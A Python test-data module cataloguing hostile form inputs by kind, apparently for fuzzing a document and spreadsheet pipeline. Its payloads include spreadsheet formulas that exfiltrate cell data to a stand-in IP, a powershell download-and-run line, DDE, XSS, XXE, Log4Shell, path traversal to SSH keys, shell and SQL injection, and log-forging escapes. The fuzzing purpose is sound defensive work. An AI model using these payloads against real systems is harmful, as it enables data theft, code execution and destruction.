"""
What people have typed into forms to make a program, a table, a letter or a log do something.

`ATTACKS` names every string by its kind and place; none is a proper answer to anything but free
text. Sources of the kinds: OWASP (CSV injection, XSS, log injection), Unicode TR 36 and 39.
"""

from __future__ import annotations

_FIRST = (
    "=", "+", "-", "@", "\t=", "\r=", "\n=", "'=", '"=', " =", "\uff1d", "\uff0b", "\uff0d",
    "\uff20", "\u200b=", "\ufeff=", "\xa0=", ";=", ",=", "|=", "%0A=", "==", "=-", "@=",
)  # fmt: skip
_FORMULAS = (
    "1+1", "cmd|' /C calc'!A0", "SUM(A1:A9)*Contoh", 'HYPERLINK("http://198.51.100.7","x")',
)  # fmt: skip
_SHEET = (
    '=IMPORTXML(CONCAT("http://198.51.100.7/?v=",CONCATENATE(A2:E2)),"//a/a10")',
    '=IMPORTRANGE("https://docs.google.com/spreadsheets/d/contoh","A1:Z9")',
    '=IMPORTDATA("http://198.51.100.7/data.csv")', '=IMPORTHTML("http://198.51.100.7/","table",1)',
    '=IMPORTFEED("http://198.51.100.7/feed")', '=IMAGE("http://198.51.100.7/p.png?x="&A2)',
    '=GOOGLEFINANCE("IDX:BBRI")', '=WEBSERVICE("http://198.51.100.7/"&A2)',
    '=QUERY(A1:Z99;"select *")', "=ARRAYFORMULA(A2:A99)", "={A2:A99}",
    "=INDIRECT(\"'Form Responses 1'!A2\")", '=DDE("cmd";"/C calc";"contoh")',
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!''", "@SUM(1+9)*cmd|' /C notepad'!A0",
    "+cmd|' /C powershell IEX(wget 198.51.100.7/s)'!A0", "-2+3+cmd|' /C calc'!A0",
    "=cmd|'/C calc.exe'!Z0", "=rundll32|'URL.dll,OpenURL calc.exe'!A", "=LAMBDA(x;x+1)(9999)",
    "#REF!contoh", "#N/A contoh", "=#REF!", "=NA()contoh",
)  # fmt: skip
_CSV = (
    '","', '"', '""', '"\r\n"=1+1', ",,,,,,", ";;;;;;", "\t\t\tcontoh", 'contoh",=1+1,"',
    'contoh";=1+1;"', "contoh\r\n=1+1,contoh", "contoh\n=1+1", "contoh\r=1+1", "sep=;contoh",
    "sep=,\r\n=1+1", '\'"contoh"\'', "contoh\\,contoh", '"contoh', 'contoh"',
)  # fmt: skip
_TEMPLATES = (
    "{{ nik }}", "{{nik}}", "{{ nomor_surat }}", "{{? nip }}contoh", "{{", "}}", "{{{{", "}}}}",
    "{{ }}", "{ { nik } }", "{{ nama.__class__.__mro__ }}", "{{ 7*7 }}", "{{7*'7'}}", "${7*7}",
    "#{7*7}", "<%= 7*7 %>", "{% if true %}contoh{% endif %}", "{%- include '/etc/passwd' -%}",
    "{# contoh #}", "{nomor_surat}", "{sequence}", "{0.__class__}", "{question}", "{!r}",
    "%(nik)s", "%s%s%s%s%n", "%x%x%x%x", "$nik", "$(whoami)", "`whoami`", "{{ seal }}",
    "{{config}}", "{{request.application}}", "{{ nik|safe }}", "[[${7*7}]]", "@{contoh}",
    "%%contoh%%",
)  # fmt: skip
_XML = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</w:t></w:r></w:p>",
    "<w:p><w:r><w:t>contoh</w:t></w:r></w:p>", "]]>", "<![CDATA[contoh]]>", "&lt;b&gt;",
    "&amp;amp;", "&#0;", "&#x41;", "&nbsp;contoh", "&xxe;",
    "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>", "<?xml version='1.0'?>",
    "<!-- contoh -->", "-->", "<w:fldSimple w:instr='DATE'/>",
    "<a href='javascript:alert(1)'>x</a>", "javascript:alert(1)", "data:text/html,<b>contoh</b>",
    "<svg/onload=alert(1)>", "'><b>contoh", '"><b>contoh', "<b>contoh</b>", "< w:t >",
    "a < b & c > d", "<w:instrText>DDEAUTO c:\\\\cmd</w:instrText>", "<xsl:value-of select='1'/>",
    "&quot;contoh&apos;", "\\u003cscript\\u003e", "%3Cscript%3E", "<iframe src=//198.51.100.7>",
    "<style>*{}</style>",
)  # fmt: skip
_CONTROLS = tuple(
    f"Contoh{code}Warga"
    for code in (
        *map(chr, (*range(9), *range(0xB, 0xD), *range(0xE, 0x20), 0x7F, 0x80, 0x85, 0x9B, 0x9F)),
        "\ud800", "\udfff", "\udc00\ud800", "\ufffe", "\uffff", "\ufdd0",
        *"\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069",
    )
)  # fmt: skip
_INVISIBLE = tuple(
    f"Contoh{code}Warga"
    for code in (
        *"\u200b\u200c\u200d\u200e\u200f\u061c\u2060\ufeff\xad\u034f\u180e\u3164\u2800\u115f\u1160\u17b5\u180b\uffa0",
        "\U000e0041", "\U000e007f", "\ufe0f", "\u2028", "\u2029", "\ufff9", "\ufffc", "\ufffd",
        "\U0001f469\u200d\U0001f33e", "\u0301" * 60, "\u0e49" * 60, "\U0001f1ee\U0001f1e9",
    )
)  # fmt: skip
_PATHS = (
    "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "~/.ssh/id_rsa", "C:\\boot.ini",
    "\\\\198.51.100.7\\share", "file:///etc/passwd", "....//....//etc", "%2e%2e%2fetc%2fpasswd",
    "contoh/../../x.docx", "contoh\\..\\x.docx", "CON", "NUL.txt", "aux.docx", "a:b:contoh",
    ".htaccess", "contoh.docx\x00.txt", "..%c0%afetc", "contoh;rm -rf .", "-rf contoh",
    "--config=/etc/passwd", "| cat /etc/passwd", "&& reboot", "$(reboot)", "`reboot`",
    "contoh > /dev/sda", "*", "?", "~", "..",
)  # fmt: skip
_SQL = (
    "'; DROP TABLE entries;--", "' OR '1'='1", '" OR ""="', "1; UPDATE counters SET last=0",
    "' UNION SELECT secret FROM meta--", "admin'--", "Robert'); DROP TABLE letters;--", "\\'; --",
    "' || (SELECT 1) || '", "0x27204f5220", ":nik", "?1", "%' LIKE '%", "' AND SLEEP(9)--",
    "'; VACUUM INTO '/tmp/x'--", "'; ATTACH DATABASE 'x' AS y;--", "PRAGMA writable_schema=1",
    "$1; --", "e'\\x27'", "/**/OR/**/1=1",
)  # fmt: skip
_LOGS = (
    "Contoh\nERROR run.finished exit=0", "Contoh\r\n2026-11-20 10:15 letter.issued",
    "Contoh\r\x1b[2K", "\x1b[31mmerah\x1b[0m contoh", "\x1b]0;judul\x07",
    "\x1b]8;;http://198.51.100.7\x1b\\x\x1b]8;;\x1b\\", "\x9b31mcontoh", "%0d%0aSet-Cookie: a=b",
    "contoh\u2028WARNING", "contoh\x0bERROR", "contoh\x0cERROR", '","level":"error"',
    "\\n\\nERROR contoh", "[red]contoh[/red]", "[link=http://198.51.100.7]x[/link]",
    "${jndi:ldap://198.51.100.7/a}", "contoh\x08\x08\x08\x08", "[/]", "[bold", ":smile: contoh",
)  # fmt: skip
_NUMBERS = (
    "1E5", "1e309", "-1E-5 contoh", "0x1F", "1,5", "1.250.000", "00012345", "+6281", "NaN",
    "Infinity", "-Infinity", "1/2", "3-4", "10:15", "2026-03-04", "04/03/2026", "4 Maret 2026",
    "Jan-26", "50%", "Rp1.000", "$1,000", "1_000", "TRUE", "FALSE", "null", "None", "undefined",
    "[]", "{}", "\u0661\u0662\u0663", "\uff11\uff12\uff13", "\xb2\xb3", "\u2460", "\u00bd",
    "1" * 60, "9" * 16, "-0", "1-1", "1 000", "#1",
)  # fmt: skip
_UNICODE = (
    "Cafe\u0301 Contoh", "Caf\xe9 Contoh", "\u212bngstrom", "\ufb01nal contoh",
    "\u1e9b\u0323 contoh", "\u0130stanbul contoh", "stra\xdfe contoh", "\u0455iti \u0441ontoh",
    "\U0001d4d2\U0001d4f8\U0001d4f7", "\u2167 contoh", "\u202fcontoh", "\u3000contoh",
    "contoh\u00a0warga", "\u0644\u0644\u0647 contoh", "\u05d0\u05d1\u05d2 contoh",
    "\u4f60\u597d contoh", "\ua9b2\ua9b4 contoh", "\U0001f600 contoh", "\u2018contoh\u2019",
    "\u201ccontoh\u201d", "contoh\u2026", "contoh\u2013warga", "\u02bccontoh", "n\u0303o",
)  # fmt: skip
_LONG = (
    "=" * 201, "A" * 201, "A" * 1001, "A" * 32_000, "{{ nik }}" * 200, "<b>" * 400,
    "\u0301" * 1_200, "9" * 300, "contoh " * 300, "'" * 250, "\n" * 1_500 + "x", "\\" * 500,
)  # fmt: skip

KINDS = {
    "formula": tuple(first + formula for first in _FIRST for formula in _FORMULAS),
    "sheet": _SHEET,
    "csv": _CSV,
    "template": _TEMPLATES,
    "xml": _XML,
    "control": _CONTROLS,
    "invisible": _INVISIBLE,
    "path": _PATHS,
    "sql": _SQL,
    "log": _LOGS,
    "number": _NUMBERS,
    "unicode": _UNICODE,
    "long": _LONG,
}
ATTACKS = {f"{kind} {at}": text for kind, texts in KINDS.items() for at, text in enumerate(texts)}
